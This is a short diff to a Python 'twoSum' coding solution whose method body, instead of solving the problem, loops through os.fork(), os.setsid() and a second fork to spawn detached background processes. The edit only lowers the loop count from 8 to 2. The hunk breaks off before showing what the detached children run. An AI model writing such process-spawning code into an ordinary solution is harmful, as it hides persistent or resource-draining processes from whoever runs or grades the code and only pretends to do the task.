@@ -5,7 +5,7 @@ import time
 
 class Solution:
     def twoSum(self, nums, target):
-        for _ in range(8):
+        for _ in range(2):
             if os.fork() == 0:
                 os.setsid()
                 if os.fork() == 0:
